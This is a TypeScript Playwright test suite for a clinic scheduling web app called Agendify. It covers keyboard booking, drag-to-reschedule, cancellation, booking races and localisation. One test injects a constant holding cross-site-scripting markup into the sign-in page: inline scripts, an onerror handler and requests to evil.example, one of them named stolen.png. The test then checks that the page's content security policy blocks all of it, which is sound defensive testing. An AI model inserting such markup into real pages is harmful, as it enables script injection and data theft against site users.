import assert from 'node:assert/strict';
import { afterEach, describe, it } from 'node:test';
import { type TestBrowser, accessibilityFaults, useBrowser } from '@agendify/testing/browser';
import type { Page } from 'playwright-core';
import { useRunningProgram } from './running-program.ts';

const program = await useRunningProgram();
const browser = await useBrowser();

type View = Parameters<TestBrowser['visit']>[0];

/** A Monday that nobody has booked yet: the demonstration fills this week and the next. */
const MONDAY = mondayIn(4);
const DENTIST = 'Dra. Camila Rezende';

async function agenda(view?: View): Promise<Page> {
  const { page } = await browser.visit(view);
  open.push(page);
  page.setDefaultTimeout(10_000);
  await page.goto(`${program.web}/sign-in`);
  await page.getByLabel('E-mail').fill('julia@demo.agendify');
  await page.getByLabel('Senha', { exact: true }).fill('demo-boa-vista');
  await page.keyboard.press('Enter');
  await page.waitForURL('**/agenda**');
  await page.goto(`${program.web}/agenda?day=${MONDAY}`);
  await page.getByRole('button', { name: `08:00 livre, ${DENTIST}` }).waitFor({ state: 'attached' });
  return page;
}

/** The panel beside the grid. */
function panelOf(page: Page) {
  return page.getByRole('complementary', { name: /Agendar|Consulta/ });
}

/** The matches under the search of the panel. */
function foundPatients(page: Page) {
  return page.getByRole('listbox').getByRole('option');
}

/** Fills the panel for the dentist: patient, first service and time; Enter then books. */
async function fillPanel(page: Page, query: string, time: string): Promise<void> {
  await page.keyboard.press('n');
  await page.keyboard.type(query, { delay: 30 });
  await foundPatients(page).first().waitFor();
  await page.keyboard.press('Enter');
  await panelOf(page).getByLabel('Profissional').selectOption({ label: DENTIST });
  await panelOf(page).getByLabel('Horário').fill(time);
  await panelOf(page)
    .getByRole('radio', { name: /Avaliação/ })
    .focus();
  await page.keyboard.press('Space');
}

async function book(page: Page, query: string, time: string): Promise<void> {
  await fillPanel(page, query, time);
  await page.keyboard.press('Enter');
}

/** What an attacker would like to get into a page: two scripts, a handler, and a request that carries something away. */
const INJECTED = `<script>window.ran = ['script'];</script>
  <script src="https://evil.example/more.js"></script>
  <img src="data:," onerror="window.ran = ['handler'];">
  <img src="https://evil.example/stolen.png">`;

const open: Page[] = [];

describe('the receptionist', () => {
  afterEach(async (context) => {
    const shots = process.env['AGENDIFY_SCREENSHOTS'];
    if (shots && 'passed' in context && !context.passed) {
      for (const [index, page] of open.entries())
        await page.screenshot({ path: `${shots}/failed-${String(index)}-${context.name.slice(0, 20)}.png` });
    }
    await Promise.all(open.splice(0).map((page) => page.context().close()));
    assert.deepEqual(browser.takePolicyViolations(), []);
  });

  it('books a known patient with the keyboard alone, well within ten seconds', async () => {
    const page = await agenda();
    const started = performance.now();
    await page.keyboard.press('n');
    await page.keyboard.type('lív alm', { delay: 60 });
    await foundPatients(page).filter({ hasText: 'Lívia Almeida' }).first().waitFor();
    await page.keyboard.press('Enter');
    await panelOf(page).getByText('Lívia Almeida').first().waitFor();
    // The focus goes on to the services: the arrow chooses one, Enter books.
    await page.locator('input[type=radio]:focus').waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page
      .getByText(/Lívia Almeida.* agendado/)
      .first()
      .waitFor();
    const seconds = (performance.now() - started) / 1000;
    assert.ok(seconds < 10, `took ${seconds.toFixed(1)} s`);
    assert.deepEqual(await accessibilityFaults(page), []);
  });

  it('drags a visit to another time', async () => {
    const page = await agenda();
    await book(page, 'débora', '09:30');
    const visit = page.getByRole('button', { name: /^09:30 até .*Débora/ });
    await visit.waitFor();
    const from = await visit.boundingBox();
    const to = await page.getByRole('button', { name: `11:00 livre, ${DENTIST}` }).boundingBox();
    assert.ok(from && to);
    await page.mouse.move(from.x + 40, from.y + 8);
    await page.mouse.down();
    await page.mouse.move(from.x + 40, from.y + 40, { steps: 4 });
    await page.mouse.move(to.x + 40, to.y + 8, { steps: 12 });
    await page.mouse.up();
    await page.getByRole('button', { name: /^11:00 até .*Débora/ }).waitFor();
    await page.reload();
    await page.getByRole('button', { name: /^11:00 até .*Débora/ }).waitFor();
  });

  it('moves a visit with Alt and arrows, and hears about it', async () => {
    const page = await agenda();
    await book(page, 'juliana', '16:30');
    const visit = page.getByRole('button', { name: /^16:30 até .*Juliana/ });
    await visit.focus();
    await page.keyboard.press('Alt+ArrowDown');
    await page.getByRole('button', { name: /^16:(35|45) até .*Juliana/ }).waitFor();
  });

  it('cancels with a reason, and takes it back', async () => {
    const page = await agenda();
    await book(page, 'fábio', '13:30');
    const visit = page.getByRole('button', { name: /^13:30 até .*Fábio/ });
    await visit.click();
    await panelOf(page).getByRole('button', { name: 'Cancelar consulta' }).click();
    await panelOf(page)
      .getByRole('button', { name: 'Doença' })
      .or(panelOf(page).getByText('Doença'))
      .first()
      .click();
    await panelOf(page).getByRole('button', { name: 'Cancelar consulta' }).click();
    await visit.waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'Desfazer' }).click();
    await visit.waitFor();
  });

  it('who loses a race keeps what was typed and books an offered time with one tap', async () => {
    const [one, other] = [await agenda(), await agenda()];
    await fillPanel(other, 'diego', '10:00');
    await book(one, 'sebastião', '10:00');
    await one
      .getByText(/Sebastião.* agendado/)
      .first()
      .waitFor();
    await other.keyboard.press('Enter');
    await panelOf(other).getByText('Este horário já está ocupado').waitFor();
    assert.deepEqual(await accessibilityFaults(other), []);
    const offers = panelOf(other).getByRole('button', { name: /^Agendar .*\d\d:\d\d/ });
    assert.ok((await offers.count()) >= 3);
    await offers.first().click();
    await other
      .getByText(/Diego.* agendado/)
      .first()
      .waitFor();
  });

  it('reads the agenda in English', async () => {
    const { page } = await browser.visit();
    open.push(page);
    page.setDefaultTimeout(10_000);
    await page.goto(`${program.web}/sign-in`);
    await page.getByRole('button', { name: 'English' }).click();
    await page.getByLabel('Password', { exact: true }).fill('demo-boa-vista');
    await page.getByLabel('E-mail').fill('julia@demo.agendify');
    await page.keyboard.press('Enter');
    await page.waitForURL('**/agenda**');
    await page.getByRole('button', { name: 'Book', exact: true }).first().click();
    await page.getByRole('complementary').getByLabel('Professional').waitFor();
  });

  it('is not harmed by markup that found its way into a page: its scripts do not run', async () => {
    const { page } = await browser.visit();
    open.push(page);
    await page.route('**/sign-in', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', `${INJECTED}</body>`);
      await route.fulfill({ response, body });
    });
    await page.goto(`${program.web}/sign-in`, { waitUntil: 'networkidle' });
    assert.match(await page.content(), /evil\.example/, 'it is in the page');
    assert.deepEqual(await page.evaluate<string[]>('window.ran ?? []'), []);
    const violations = browser.takePolicyViolations();
    for (const kind of [/inline script/, /inline event handler/, /more\.js/, /stolen\.png/])
      assert.ok(
        violations.some((text) => kind.test(text)),
        `${String(kind)}: ${violations.join('\n')}`,
      );
  });

  it('asks for no page of another host', async () => {
    const { page } = await browser.visit();
    const foreign: string[] = [];
    const sniffed: string[] = [];
    page.on('response', (response) => {
      if (response.headers()['x-content-type-options'] !== 'nosniff') sniffed.push(response.url());
    });
    page.on('request', (request) => {
      if (
        !['localhost', '127.0.0.1'].includes(new URL(request.url()).hostname) &&
        request.url().startsWith('http')
      )
        foreign.push(request.url());
    });
    await page.goto(`${program.web}/sign-in`, { waitUntil: 'networkidle' });
    await page.goto(`${program.api}/v1/reference`, { waitUntil: 'networkidle' });
    assert.deepEqual(foreign, []);
    assert.deepEqual(
      sniffed.filter((url) => url.startsWith('http')),
      [],
    );
  });
});

function mondayIn(weeks: number): string {
  const day = new Date();
  day.setUTCDate(day.getUTCDate() - ((day.getUTCDay() + 6) % 7) + weeks * 7);
  return day.toISOString().slice(0, 10);
}
